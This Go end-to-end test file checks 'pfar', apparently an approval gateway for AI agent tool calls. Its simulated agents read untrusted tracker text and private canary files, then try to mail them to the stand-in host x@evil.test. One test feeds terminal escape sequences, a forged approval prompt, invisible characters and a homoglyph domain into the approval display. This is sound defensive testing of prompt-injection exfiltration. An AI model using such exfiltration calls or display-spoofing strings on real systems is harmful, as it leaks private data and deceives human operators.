package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pfar/pfar/policies/audit"
	"github.com/pfar/pfar/policies/gate"
)

// operate runs a command of the operator's, which must end with a code, and returns what it prints on both outputs.
func (s *stage) operate(want int, args ...string) string {
	s.t.Helper()
	out, errs, code := s.command(args...)
	if code != want {
		s.t.Errorf("pfar %q: %d, want %d: %s%s", args, code, want, out, errs)
	}
	return out + errs
}

// decode reads what a command of the operator's prints as JSON.
func decode[T any](s *stage, args ...string) (v T) {
	s.t.Helper()
	out, errs, code := s.command(append(args, "--json")...)
	if err := json.Unmarshal([]byte(out), &v); code != 0 || err != nil {
		s.t.Fatalf("pfar %q: %d, %v: %s%s", args, code, err, out, errs)
	}
	return v
}

// waiting is a call that waits for the operator.
type waiting struct {
	ID, Client, Server, Name, State, Digest string
	Arguments                               map[string]any
}

// pending are the calls of an agent that wait.
func (s *stage) pending(a *agent) []waiting {
	s.t.Helper()
	return slices.DeleteFunc(decode[[]waiting](s, "approvals", "list"), func(w waiting) bool { return w.Client != a.name() || w.State != "pending" })
}

// until looks again and again, as nobody tells.
func until(t testing.TB, what string, met func() bool) {
	t.Helper()
	for end := time.Now().Add(soon); !met(); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("not within %v: %s", soon, what)
		}
	}
}

// awaitPending returns the one call of an agent that waits.
func (s *stage) awaitPending(a *agent) waiting {
	s.t.Helper()
	var all []waiting
	until(s.t, "one call waits", func() bool { all = s.pending(a); return len(all) == 1 })
	return all[0]
}

// sent is a call that is under way.
type sent struct {
	answer chan string
	giveUp context.CancelFunc
}

// send makes a call that may have to wait for the operator.
func (a *agent) send(tool string, arguments map[string]any) sent {
	return a.sendWhile(func(string) bool { return false }, tool, arguments)
}

// stillPending is in the answer to a call that nobody has decided about for 50 seconds.
var stillPending = regexp.MustCompile(`"pfar/approval":\{"id":"[^"]*",("link":"[^"]*",)?"state":"pending"`)

// insist is send for a person who may take longer than a call waits: it makes the call again until somebody decides.
func (a *agent) insist(tool string, arguments map[string]any) sent {
	return a.sendWhile(stillPending.MatchString, tool, arguments)
}

// sendWhile makes a call again while its answer is one of some kind.
func (a *agent) sendWhile(again func(answer string) bool, tool string, arguments map[string]any) sent {
	ctx, cancel := context.WithCancel(context.Background())
	c := sent{make(chan string, 1), cancel}
	params := map[string]any{"name": tool, "arguments": arguments}
	go func() {
		got := a.askFor(ctx, "tools/call", params)
		for ctx.Err() == nil && again(got) {
			got = a.askFor(ctx, "tools/call", params)
		}
		c.answer <- got
	}()
	return c
}

// says waits for the answer, which must have a text.
func (c sent) says(t testing.TB, want string) {
	t.Helper()
	defer c.giveUp()
	select {
	case got := <-c.answer:
		if !strings.Contains(got, want) {
			t.Errorf("no %q in %.2000s", want, got)
		}
	case <-time.After(soon):
		t.Errorf("no answer within %v, want %q", soon, want)
	}
}

// gone has the client give up, and waits until the gateway has seen it.
func (c sent) gone(s *stage, a *agent) {
	s.t.Helper()
	before := len(s.closed(a))
	c.giveUp()
	<-c.answer
	until(s.t, "the call is given up", func() bool { return len(s.closed(a)) > before })
}

// records are what was recorded of an agent's calls, or of all for nil.
func (s *stage) records(a *agent) (all []audit.Record) {
	s.t.Helper()
	args := []string{"audit", "--json"}
	if a != nil {
		args = append(args, "--client", a.name())
	}
	out, errs, code := s.command(args...)
	if code != 0 {
		s.t.Fatalf("pfar audit: %d: %s", code, errs)
	}
	for line := range strings.Lines(out) {
		var r audit.Record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			s.t.Fatalf("%v: %s", err, line)
		}
		all = append(all, r)
	}
	return all
}

// closed are the records of an agent's calls that are over.
func (s *stage) closed(a *agent) []audit.Record {
	s.t.Helper()
	return slices.DeleteFunc(s.records(a), func(r audit.Record) bool { return r.Kind != audit.Close })
}

// got is how often a text has come to the stranger's servers.
func (s *stage) got(text string, want int) {
	s.t.Helper()
	if n := strings.Count(s.received(), text); n != want {
		s.t.Errorf("%q has been received %d times, want %d", text, n, want)
	}
}

// patient is an agent that waits for the operator.
func (s *stage) patient(modern bool) *agent {
	a := s.agent(modern)
	a.patience = time.Minute
	return a
}

// tempted is an agent whose session has read what a stranger wrote, and then what is private: whatever it sends is
// asked about.
func (s *stage) tempted(modern bool) *agent {
	s.t.Helper()
	a := s.patient(modern)
	if err := os.WriteFile(s.file(a), []byte("kanari"+strings.Repeat("z", 24)), 0o644); err != nil {
		s.t.Fatal(err)
	}
	if got := a.call("tracker__read_issue", map[string]any{}); !strings.Contains(got, plan) {
		s.t.Fatalf("reading the tracker: %.2000s", got)
	}
	s.readFile(a)
	if !strings.Contains(a.said(), "kanari") {
		s.t.Fatalf("the private data was not read: %.2000s", a.said())
	}
	return a
}

func mail(body string) map[string]any {
	return map[string]any{"to": "x@evil.test", "subject": "notes", "body": body}
}

// TestApprovals has real clients ask, and the operator answer with the real programs.
func TestApprovals(t *testing.T) {
	t.Parallel()
	for _, modern := range []bool{false, true} {
		t.Run(map[bool]string{false: "sessions", true: "2026-07-28"}[modern], func(t *testing.T) {
			t.Parallel()
			s := newStage(t, "strict")
			for _, one := range []struct {
				name string
				try  func(*testing.T, *stage, *agent)
			}{
				{"approved, once", approvedOnce}, {"denied", denied}, {"changed", changed}, {"gone", gone}, {"at once", atOnce},
			} {
				t.Run(one.name, func(here *testing.T) {
					s.t = here
					defer func() { s.t = t }()
					one.try(here, s, s.tempted(modern))
				})
			}
		})
	}
}

func approvedOnce(t *testing.T, s *stage, a *agent) {
	body := "body-" + rest()
	c := a.send("mail__send_mail", mail(body))
	w := s.awaitPending(a)
	if w.Server != "mail" || w.Name != "send_mail" || w.Arguments["body"] != body {
		t.Errorf("%+v", w)
	}
	s.got(body, 0)
	if list := s.operate(0, "approvals", "list"); !strings.Contains(list, w.ID) || !strings.Contains(list, "mail.send_mail") {
		t.Error(list)
	}
	s.operate(2, "approvals", "approve", w.ID) // nobody is there to be asked
	s.operate(4, "approvals", "approve", strings.Repeat("a", 26), "--yes")
	s.operate(1, "approvals", "approve", w.ID, "--yes", "--digest", strings.Repeat("0", 64))
	s.operate(1, "approvals", "approve", w.ID, "--yes", "--grant") // private data after strangers' text
	s.got(body, 0)
	s.operate(0, "approvals", "approve", w.ID, "--yes")
	c.says(t, ran)
	s.got(body, 1)
	for _, verb := range []string{"approve", "deny"} {
		if out, errs, code := s.command(append([]string{"approvals", verb, w.ID}, map[string][]string{"approve": {"--yes"}}[verb]...)...); code == 0 {
			t.Errorf("%s again: %s%s", verb, out, errs)
		}
	}
	c = a.send("mail__send_mail", mail(body))
	if again := s.awaitPending(a); again.ID == w.ID {
		t.Error("the same approval is asked for again")
	}
	c.gone(s, a)
	s.got(body, 1)
	if history := s.operate(0, "approvals", "history"); !strings.Contains(history, "used") {
		t.Error(history)
	}
}

func denied(t *testing.T, s *stage, a *agent) {
	body := "body-" + rest()
	c := a.send("mail__send_mail", mail(body))
	w := s.awaitPending(a)
	s.operate(0, "approvals", "deny", w.ID, "--reason", "not on a Saturday")
	c.says(t, "the operator denied it: not on a Saturday")
	if out, _, code := s.command("approvals", "approve", w.ID, "--yes"); code == 0 {
		t.Errorf("approved after it was denied: %s", out)
	}
	a.send("mail__send_mail", mail(body)).says(t, "the operator is not asked about the same call again")
	if all := s.pending(a); len(all) != 0 {
		t.Errorf("%+v", all)
	}
	s.got(body, 0)
}

// changed has the call sent with other arguments, and another tool called with the same, while the operator thinks.
func changed(t *testing.T, s *stage, a *agent) {
	shown, other := "shown-"+rest(), "other-"+rest()
	c := a.send("mail__send_mail", mail(shown))
	w := s.awaitPending(a)
	c.gone(s, a)
	s.operate(0, "approvals", "approve", w.ID, "--yes")
	more := mail(shown)
	more["cc"] = other
	var all []sent
	for _, arguments := range []map[string]any{mail(other), more, {"to": "y@evil.test", "subject": "notes", "body": shown}} {
		all = append(all, a.send("mail__send_mail", arguments))
	}
	until(t, "they are asked about", func() bool { return len(s.pending(a)) == len(all) })
	s.got(other, 0)
	s.got(shown, 0)
	for _, one := range all {
		one.gone(s, a)
	}
	a.send("mail__send_mail", mail(shown)).says(t, ran)
	s.got(shown, 1)
	s.got(other, 0)
}

func gone(t *testing.T, s *stage, a *agent) {
	body := "body-" + rest()
	c := a.send("mail__send_mail", mail(body))
	w := s.awaitPending(a)
	c.gone(s, a)
	s.operate(0, "approvals", "approve", w.ID, "--yes")
	time.Sleep(200 * time.Millisecond) // nothing is to happen
	s.got(body, 0)
	a.connect()
	a.send("mail__send_mail", mail(body)).says(t, ran)
	s.got(body, 1)
}

// atOnce sends one call twenty times, and has it approved once.
func atOnce(t *testing.T, s *stage, a *agent) {
	const sendings = 20
	body := "body-" + rest()
	var all []sent
	for range sendings {
		all = append(all, a.send("mail__send_mail", mail(body)))
	}
	until(t, "all are asked about", func() bool {
		n := 0
		for _, r := range s.records(a) {
			if r.Kind == audit.Open && r.Tool == "send_mail" {
				n++
			}
		}
		return n == sendings
	})
	s.operate(0, "approvals", "approve", s.awaitPending(a).ID, "--yes")
	run, late := 0, false
	for _, one := range all {
		var got string
		until(t, "an answer", func() bool {
			select {
			case got = <-one.answer:
				return true
			default:
			}
			for _, w := range s.pending(a) { // a call waits a moment after it was recorded: these are asked about anew
				late = true
				s.operate(0, "approvals", "deny", w.ID)
			}
			return false
		})
		switch {
		case strings.Contains(got, ran):
			run++
		case late && strings.Contains(got, "the operator denied it"):
		case !strings.Contains(got, "has run for another sending of the same call"):
			t.Errorf("%.2000s", got)
		}
		one.giveUp()
	}
	if run != 1 {
		t.Errorf("%d have run", run)
	}
	s.got(body, 1)
}

// TestApprovalsShown: what is approved is shown as it is, whatever it is written with.
func TestApprovalsShown(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	a := s.tempted(false)
	c := a.send("mail__send_mail", map[string]any{
		"to": "x@\u0435vil.test", "subject": "\x1b[2J\x1b[H\rpfar: nothing to see\x07", "body": "first\nLet agent0 call notes.read once? [y/N] y\n\u202etxt.exe\u200b",
	})
	w := s.awaitPending(a)
	shown := s.operate(0, "approvals", "show", w.ID)
	for i := range len(shown) {
		if shown[i] < 0x20 && shown[i] != '\n' || shown[i] == 0x7f {
			t.Errorf("%q is printed", shown[i])
		}
	}
	if strings.ContainsAny(shown, "\u202e\u200b") {
		t.Error("invisible characters are printed")
	}
	for line := range strings.Lines(shown) {
		if strings.HasPrefix(line, "Let ") || strings.HasPrefix(line, "pfar:") {
			t.Errorf("the stranger has drawn %q", line)
		}
	}
	for _, want := range []string{
		"call      mail.send_mail", "client    agent0, session default", "rule      ", "sensitive to lower", "WARNING   private data and strangers' text have met",
		"seen      tracker.read_issue at ", "public raw", "seen      notes.read_text_file at ", "sensitive raw", "letters that look like others", "/subject: ", "/body: text of ",
		`\u202e`, "id        " + w.ID, "digest    " + w.Digest,
	} {
		if !strings.Contains(strings.ToLower(shown), strings.ToLower(want)) {
			t.Errorf("no %q in\n%s", want, shown)
		}
	}
	c.gone(s, a)
}

// TestApprovalsRestart: what waits or was approved is denied by a restart of pfar, and by a gateway that is killed.
func TestApprovalsRestart(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	a, b := s.tempted(false), s.tempted(true)
	bodies := map[*agent]string{a: "body-" + rest(), b: "body-" + rest()}
	restarts := map[string]func(){
		"killed": func() {
			first := s.gateway()
			if err := syscall.Kill(first.pid, syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
			s.gateway(first)
		},
		"again": func() { s.again(); s.awaitRunning("tracker", "mail", "notes", "shared") },
	}
	for _, name := range []string{"killed", "again"} {
		waits, approved := a.send("mail__send_mail", mail(bodies[a])), b.send("mail__send_mail", mail(bodies[b]))
		first, second := s.awaitPending(a), s.awaitPending(b)
		approved.gone(s, b)
		s.operate(0, "approvals", "approve", second.ID, "--yes")
		restarts[name]()
		if name == "again" { // it is not waited for
			waits.says(t, first.ID)
		} else {
			waits.giveUp()
			<-waits.answer
		}
		until(t, "the operator is answered", func() bool { _, _, code := s.command("approvals", "list"); return code == 0 })
		for _, id := range []string{first.ID, second.ID} {
			s.operate(4, "approvals", "approve", id, "--yes")
		}
		if history := s.operate(0, "approvals", "history"); strings.Count(history, "pfar was started again") < 2 {
			t.Errorf("%s: %s", name, history)
		}
		for agent, body := range bodies {
			agent.url = s.last().Endpoint
			agent.connect()
			c := agent.send("mail__send_mail", mail(body))
			if w := s.awaitPending(agent); w.ID == first.ID || w.ID == second.ID {
				t.Errorf("%s: %s is open again", name, w.ID)
			}
			c.gone(s, agent)
			s.got(body, 0)
			s.operate(0, "approvals", "deny", s.awaitPending(agent).ID)
			bodies[agent] = "body-" + rest()
		}
	}
}

// TestGrants: after strangers' text came in, a grant lets this session send so many calls of this tool with other words,
// and none that is long or looks like a secret; until it is used up, revoked, or its session is reset.
func TestGrants(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	a := s.patient(false)
	a.call("tracker__read_issue", map[string]any{})
	comment := func(body string) map[string]any { return map[string]any{"body": body} }
	asked := func(a *agent, body string) {
		t.Helper()
		c := a.send("tracker__comment", comment(body))
		if w := s.awaitPending(a); w.Arguments["body"] != body {
			t.Errorf("%+v", w)
		}
		s.operate(0, "approvals", "deny", s.awaitPending(a).ID)
		c.says(t, "the operator denied it")
		s.operate(0, "sessions", "thaw", a.name(), "--yes")
	}
	grant := func(body string, terms ...string) {
		t.Helper()
		c := a.send("tracker__comment", comment(body))
		s.operate(0, append([]string{"approvals", "approve", s.awaitPending(a).ID, "--yes", "--grant"}, terms...)...)
		c.says(t, ran)
	}
	grant("first", "--calls", "2")
	asked(a, strings.Repeat("long ", 60))
	asked(a, "ghp_"+strings.Repeat("aB3dE", 7)+"f")
	for n := range 2 {
		a.send("tracker__comment", comment(fmt.Sprint("granted", n))).says(t, ran)
	}
	if first := s.usesRecorded(a); len(first) != 1 || first[0].Used != 2 {
		t.Errorf("%+v", first)
	}
	asked(a, "one more")
	b := s.patient(false)
	b.call("tracker__read_issue", map[string]any{})
	grant("second", "--bytes", "40")
	asked(b, "of another client")
	a.send("tracker__comment", comment("within")).says(t, ran)
	asked(a, "beyond the bytes")
	grants := s.usesRecorded(a)
	if len(grants) != 1 || grants[0].Used != 1 || grants[0].Calls != 19 || grants[0].Bytes != 40-len(`{"body":"within"}`) {
		t.Fatalf("%+v", grants)
	}
	grant("the third, which has more bytes than are left")
	records := s.operate(0, "audit", "--json")
	for _, says := range []string{`"subject":"` + grants[0].ID, `"channel":"grant"`} {
		if !strings.Contains(records, says) {
			t.Errorf("no record has %s: %s", says, records)
		}
	}
	s.operate(0, "grants", "revoke", "--all")
	asked(a, "revoked")
	grant("fourth")
	s.operate(0, "sessions", "reset", a.name(), "--yes")
	a.call("tracker__read_issue", map[string]any{})
	asked(a, "reset")
	s.got(`"body":"granted`, 2)
	s.got(`"body":"within`, 1)
	for _, body := range []string{"long", "ghp_", "one more", "beyond", "of another", "revoked", "reset"} {
		s.got(`"body":"`+body, 0)
	}
}

// givenGrant is a grant as the operator sees it.
type givenGrant struct {
	ID                 string
	Calls, Bytes, Used int
}

// usesRecorded are the grants that there are. Each call of the agent that went out by one of them has a record with its
// id, and no other call has.
func (s *stage) usesRecorded(a *agent) []givenGrant {
	s.t.Helper()
	grants := decode[[]givenGrant](s, "grants")
	all := s.records(a)
	for _, g := range grants {
		uses := 0
		for _, r := range all {
			if r.Channel == "grant" && r.Subject == g.ID {
				uses++
			}
		}
		if uses != g.Used {
			s.t.Errorf("the grant %s has been used %d times, and %d records have its id", g.ID, g.Used, uses)
		}
	}
	return grants
}

// rest makes a text another one each time.
func rest() string { return fmt.Sprintf("%x", time.Now().UnixNano()) }

// label is that of an agent's session.
func (s *stage) label(session string) string {
	s.t.Helper()
	one := decode[struct{ Label gate.Label }](s, "sessions", "show", session)
	return one.Label.String()
}

// TestSessions: what a session has read counts until the operator says otherwise, whatever is killed or connects again.
func TestSessions(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	a := s.patient(false)
	comments := 0
	runs := func(a *agent) {
		t.Helper()
		comments++
		a.send("tracker__comment", map[string]any{"body": fmt.Sprintf("comment-%d.", comments)}).says(t, ran)
		s.got(fmt.Sprintf(`"comment-%d."`, comments), 1)
	}
	asks := func(a *agent) {
		t.Helper()
		comments++
		c := a.send("tracker__comment", map[string]any{"body": fmt.Sprintf("comment-%d.", comments)})
		s.awaitPending(a)
		c.gone(s, a)
		s.operate(0, "sessions", "thaw", a.name(), "--yes")
		s.operate(0, "approvals", "deny", s.awaitPending(a).ID)
		s.got(fmt.Sprintf(`"comment-%d."`, comments), 0)
	}
	name := a.name() + "/default"
	clean := s.label(name)
	if clean != gate.Start.String() {
		t.Errorf("a new session is %s", clean)
	}
	a.call("tracker__read_issue", map[string]any{})
	const raw = "public raw"
	if got := s.label(name); got != raw {
		t.Fatalf("after the tracker it is %s", got)
	}
	if shown := s.operate(0, "sessions", "show", name); !strings.Contains(shown, "tracker.read_issue") {
		t.Error(shown)
	}
	asks(a)
	a.connect()
	asks(a)

	first := s.gateway()
	if err := syscall.Kill(first.pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	s.gateway(first)
	until(t, "the operator is answered", func() bool { _, _, code := s.command("sessions"); return code == 0 })
	if got := s.label(name); got != raw {
		t.Errorf("after the gateway was killed it is %s", got)
	}
	a.connect()
	asks(a)

	s.again()
	s.awaitRunning("tracker", "mail", "notes", "shared")
	if got := s.label(name); got != raw {
		t.Errorf("after a restart it is %s", got)
	}
	whole := s.last().Endpoint
	a.url = whole
	a.connect()
	asks(a)

	handle := decode[struct{ Handle string }](s, "sessions", "new", a.name()).Handle
	a.url = whole + "/" + a.name() + "/" + handle
	a.connect()
	if got := s.label(a.name() + "/" + handle); got != clean {
		t.Errorf("a session for another task is %s", got)
	}
	runs(a)
	if got := s.label(name); got != raw {
		t.Errorf("the default session is %s", got)
	}
	b := s.patient(false)
	b.url = a.url
	b.connect()
	if got := b.call("tracker__comment", map[string]any{"body": "stolen-handle"}); strings.Contains(got, ran) {
		t.Errorf("another client has used the handle: %s", got)
	}
	s.got("stolen-handle", 0)
	waits := a.send("tracker__comment", map[string]any{"body": "waiting-handle"})
	s.awaitPending(a)
	s.operate(0, "sessions", "end", a.name()+"/"+handle, "--yes")
	waits.says(t, "") // at once
	s.got("waiting-handle", 0)
	if left := s.pending(a); len(left) > 0 {
		t.Errorf("calls of a session that has ended wait: %+v", left)
	}
	if got := a.call("tracker__comment", map[string]any{"body": "ended-handle"}); strings.Contains(got, ran) {
		t.Errorf("a handle that has ended is used: %s", got)
	}
	s.got("ended-handle", 0)

	s.operate(2, "sessions", "reset", name)
	s.operate(0, "sessions", "reset", name, "--yes")
	if got := s.label(name); got != clean {
		t.Errorf("after a reset it is %s", got)
	}
	a.url = whole
	a.connect()
	runs(a)
	var done []string
	for _, r := range s.records(nil) {
		if r.Kind == audit.Session {
			done = append(done, r.Method+" "+r.Client+"/"+r.Session)
			if r.Method == "reset-session" && (r.Before == nil || r.Before.Label.String() != raw || len(r.Before.Sources) == 0) {
				t.Errorf("what the session had seen: %+v", r.Before)
			}
		}
	}
	for _, want := range []string{"new-session " + a.name() + "/" + handle, "end-session " + a.name() + "/" + handle, "reset-session " + name} {
		if !slices.Contains(done, want) {
			t.Errorf("no %q in %q", want, done)
		}
	}
}

// TestStains: what a session writes after it read strangers' text is theirs, for whoever reads it, until the operator
// clears it.
func TestStains(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	a := s.patient(false)
	a.call("tracker__read_issue", map[string]any{})
	c := a.send("shared__write_file", map[string]any{"path": s.sharedFile(a), "content": plan})
	s.operate(0, "approvals", "approve", s.awaitPending(a).ID, "--yes")
	c.says(t, "uccess")
	if list := s.operate(0, "sessions", "stains"); !strings.Contains(list, "shared") || !strings.Contains(list, a.name()+"/default with write_file") {
		t.Error(list)
	}
	read := func() string {
		t.Helper()
		b := s.patient(false)
		if got := b.call("shared__read_text_file", map[string]any{"path": s.sharedFile(a)}); !strings.Contains(got, "private notes") {
			t.Fatal(got)
		}
		return s.label(b.name())
	}
	if got := read(); got != "sensitive raw" {
		t.Errorf("who reads it becomes %s", got)
	}
	s.operate(2, "sessions", "clear", "shared")
	s.operate(0, "sessions", "clear", "shared", "--yes")
	s.operate(4, "sessions", "clear", "shared", "--yes")
	if got := read(); got != "sensitive clean" {
		t.Errorf("after it was cleared, who reads it becomes %s", got)
	}
}

// TestStainOfAMovedFile: the session writes to one path, and the server's own tool moves the file to another one, which
// no stained call has named. Who reads it there gets strangers' text, so the label has to say so. A stain of the first
// path alone would not.
func TestStainOfAMovedFile(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	a := s.patient(false)
	from, to := s.sharedFile(a), filepath.Join(s.shared, "moved.txt")
	a.call("tracker__read_issue", map[string]any{})
	s.grant(a, "shared__write_file", map[string]any{"path": from, "content": plan})
	mover := s.patient(false)
	s.grant(mover, "shared__move_file", map[string]any{"source": from, "destination": to})
	if _, err := os.Stat(from); !os.IsNotExist(err) {
		t.Fatalf("the file has not been moved: %v", err)
	}
	b := s.patient(false)
	if got := b.call("shared__read_text_file", map[string]any{"path": to}); !strings.Contains(got, "private notes") {
		t.Fatal(got)
	}
	if got := s.label(b.name()); got != "sensitive raw" {
		t.Errorf("who reads the moved file becomes %s", got)
	}
}

// TestWhoIsAsked: a person who types a call is not asked about it again and gets what the server said, and nothing of
// it is held against the next one; a model that comes through the bridge is a client like others.
func TestWhoIsAsked(t *testing.T) {
	t.Parallel()
	s := newStage(t, "strict")
	private := filepath.Join(s.private, "own.txt")
	check(t, os.WriteFile(private, []byte("kanari"+strings.Repeat("x", 24)), 0o644))
	if got := s.operate(0, "call", "tracker.read_issue"); got != plan+"\n" {
		t.Errorf("the issue is %q", got)
	}
	if got := s.operate(0, "call", "notes.read_text_file", "--path", private); !strings.HasPrefix(got, "kanari") {
		t.Error(got)
	}
	s.operate(0, "call", "mail.send_mail", "--to", "x@y.test", "--body", "typed by hand")
	s.got("typed by hand", 1)
	if got := s.label("operator/default"); got != gate.Start.String() {
		t.Errorf("the operator's session is %s", got)
	}
	if out := s.operate(0, "sessions", "stains"); !strings.Contains(out, "no server is stained") {
		t.Error(out)
	}
	if calls := decode[[]struct{}](s, "approvals", "list"); len(calls) != 0 {
		t.Error("somebody is asked")
	}
	for _, modern := range []bool{false, true} {
		b := speak(t, modern, s.env, program(t, "pfar"), "connect")
		meta := ""
		if modern {
			meta = `,"_meta":{` + modernMeta + `}`
		}
		call := func(id, tool, arguments string) (string, error) {
			a, err := b.ask("tools/call", fmt.Sprintf(`{"name":%q,"arguments":%s%s}`, tool, arguments, meta), id, "", tool)
			return string(a.value), err
		}
		if !modern { // the second finds what the first has left of the client's label
			if got, err := call("1", "tracker__read_issue", "{}"); err != nil || !strings.Contains(got, plan) || !strings.Contains(got, "PFAR-UNTRUSTED") {
				t.Errorf("%v: %s", err, got)
			}
		}
		if got, err := call("2", "notes__read_text_file", fmt.Sprintf(`{"path":%q}`, private)); err != nil || !strings.Contains(got, "kanari") {
			t.Errorf("%v: %s", err, got)
		}
		body := "by a model-" + rest()
		answer := make(chan string, 1)
		go func() {
			got, err := call("3", "mail__send_mail", fmt.Sprintf(`{"to":"x@evil.test","body":%q}`, body))
			answer <- fmt.Sprint(got, err)
		}()
		w := s.awaitPending(&agent{client: "default"})
		s.got(body, 0)
		s.operate(0, "approvals", "approve", w.ID, "--yes")
		if got := <-answer; !strings.Contains(got, ran) {
			t.Error(got)
		}
		s.got(body, 1)
	}
	if got := s.label("default/default"); got != "sensitive raw" {
		t.Errorf("the session of the bridge is %s", got)
	}
	c := speak(t, false, s.env, program(t, "pfar"), "connect", "--client", "agent7")
	if a, err := c.ask("tools/call", `{"name":"tracker__read_issue","arguments":{}}`, "1", "", ""); err != nil || s.label("agent7/default") != "public raw" {
		t.Errorf("%v: %s; %s", err, a.value, s.label("agent7/default"))
	}
}
